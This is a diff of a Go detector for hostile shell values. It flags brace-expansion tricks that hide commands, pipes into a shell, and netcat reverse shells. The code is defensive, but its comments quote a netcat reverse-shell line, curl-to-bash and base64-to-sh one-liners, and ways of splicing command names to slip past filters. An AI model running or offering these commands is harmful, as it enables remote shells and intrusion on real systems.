@@ -6,7 +6,8 @@ import "strings"
 // there: a tilde's directory ("~+", "~-", "~+1": the working, the previous
 // and the stacked directories), history events ("!-1!-2": the
 // last commands run again), and a word of brace expansion whose first
-// word is a command ("{,ifconfig}", "{l,-lh}s" is "ls -lhs", "{id,}").
+// word is a command ("{,ifconfig}", "{l,-lh}s" is "ls -lhs", "{id,}",
+// "c{a,oun}t" is "cat count").
 // The word must be the whole value or follow a command separator (';',
 // '|', '&', a line break, '`' or "$("): "~-1 degrees" and "{a,b}" in a
 // sentence are no commands.
@@ -137,7 +138,8 @@ func historyWord(w string) bool {
 // first brace group (prefix, each alternative, suffix; empty words
 // dropped), runs a command: its first word names one that is no English
 // word ("ls", "ifconfig", "id"), or an English one with an option or a
-// path after it.
+// path after it, or spliced around the group or behind an empty
+// alternative.
 func braceCommand(w string) bool {
 	o := strings.IndexByte(w, '{')
 	c := strings.IndexByte(w[o+1:], '}')
@@ -163,6 +165,13 @@ func braceCommand(w string) bool {
 	case cmdName, cmdProbe:
 		return true
 	case cmdWord:
+		if pre != "" && suf != "" || inner[0] == ',' {
+			// the name spliced around the group ("c{a,oun}t" is "cat
+			// count") or behind an empty alternative ("{,ip,a}" is "ip
+			// a"): a word written to hide a command, which no sentence's
+			// "{cat,dog}" is
+			return true
+		}
 		for _, a := range words[1:] {
 			if a[0] == '-' || a[0] == '/' {
 				return true
@@ -178,9 +187,9 @@ var pipeShells = []string{"sh", "bash", "zsh", "ksh", "dash", "ash", "csh", "tcs
 // pipeToShell finds "| sh" (or another shell) ending a command line: what
 // came before the pipe is run as a script ("printf ... | rev | sh",
 // "curl http://x/s | bash", "echo aWQ= | base64 -d | sh"). The shell must
-// end the value or its command (';', '&', ')', '`' or a line break come
-// next), with nothing but its "-s" or "-" after it, and a command must
-// stand before the pipe.
+// end the value or its command (';', '&', ')', '`', a line break or a
+// comment come next), with nothing but its "-s" or "-" after it, and a
+// command must stand before the pipe.
 func pipeToShell(v string) (int, int, bool) {
 	for k := 0; k < len(v); {
 		p := strings.IndexByte(v[k:], '|')
@@ -232,8 +241,8 @@ func pipeToShell(v string) (int, int, bool) {
 					r++
 				}
 			}
-			if r >= len(v) || strings.IndexByte(";&)`\n\r", v[r]) >= 0 {
-				return p, e, true
+			if r >= len(v) || strings.IndexByte(";&)`\n\r", v[r]) >= 0 || r > e && v[r] == '#' {
+				return p, e, true // "#" after a blank: a comment to the line's end
 			}
 		}
 	}
@@ -303,4 +312,108 @@ func pathExpansion(v string) (int, int, string) {
 		}
 	}
 	return -1, -1, ""
+}
+
+// netcatSeps end a command for netcatShell.
+var netcatSeps = byteSet(";|&\n\r`")
+
+// netcatShell finds netcat handing a shell to a connection, wherever it
+// stands in a value: "nc 10.0.0.1 4444 -e /bin/sh", "ncat -e cmd.exe
+// host 443", the reverse shell a payload runs once it reaches any
+// command position (behind a SQLite ".shell", a template, a quote the
+// other readers do not follow). On one line or command of the value: a
+// word nc, ncat or netcat (or a path ending in one), then among its
+// arguments an -e or -c whose argument is a shell, and a port number.
+func netcatShell(v string) (int, int, bool) {
+	if !strings.Contains(v, " -e") && !strings.Contains(v, " -c") {
+		return 0, 0, false
+	}
+	for off := 0; off < len(v); {
+		end := off
+		for end < len(v) && end-off < 512 && !netcatSeps[v[end]] {
+			end++
+		}
+		seg, at := v[off:end], off
+		off = end + 1
+		// the first netcat of the command: a later one's arguments are
+		// some of its
+		var w string
+		k := 0
+		for {
+			var i int
+			if w, i, k = nextField(seg, k); w == "" {
+				break
+			}
+			n := strings.Trim(w, "'\"(")
+			n = n[strings.LastIndexByte(n, '/')+1:]
+			if !equalFold(n, "nc") && !equalFold(n, "ncat") && !equalFold(n, "netcat") {
+				continue
+			}
+			shell, port, dash := false, false, false
+			for {
+				if w, _, k = nextField(seg, k); w == "" {
+					break
+				}
+				switch {
+				case dash:
+					shell, dash = shell || shellName(w), false
+					continue
+				case w == "-e" || w == "-c":
+					dash = true
+				case strings.HasPrefix(w, "-e") || strings.HasPrefix(w, "-c"):
+					shell = shell || shellName(w[2:])
+				default:
+					port = port || portNumber(w)
+				}
+			}
+			if shell && port {
+				return at + i, at + len(seg), true
+			}
+			break
+		}
+	}
+	return 0, 0, false
+}
+
+// nextField returns the next word of s from k on (bytes between blanks),
+// where it starts, and where to go on; "" at the end.
+func nextField(s string, k int) (string, int, int) {
+	for k < len(s) && (s[k] == ' ' || s[k] == '\t' || s[k] == '\v' || s[k] == '\f') {
+		k++
+	}
+	i := k
+	for k < len(s) && s[k] != ' ' && s[k] != '\t' && s[k] != '\v' && s[k] != '\f' {
+		k++
+	}
+	return s[i:k], i, k
+}
+
+// portNumber reports whether w is a TCP port number, 1 to 65535.
+func portNumber(w string) bool {
+	if len(w) == 0 || len(w) > 5 {
+		return false
+	}
+	n := 0
+	for k := 0; k < len(w); k++ {
+		if w[k] < '0' || w[k] > '9' {
+			return false
+		}
+		n = n*10 + int(w[k]-'0')
+	}
+	return n > 0 && n < 65536
+}
+
+// shellName reports whether w names a shell, with or without its
+// directory: sh, bash, /bin/sh, cmd.exe, powershell.
+func shellName(w string) bool {
+	w = strings.Trim(w, "'\"")
+	if s := strings.LastIndexAny(w, "/\\"); s >= 0 {
+		w = w[s+1:]
+	}
+	w = strings.TrimSuffix(strings.ToLower(w), ".exe")
+	switch w {
+	case "sh", "bash", "zsh", "ksh", "dash", "ash", "csh", "tcsh", "cmd", "powershell", "pwsh":
+		return true
+	}
+	return false
 }
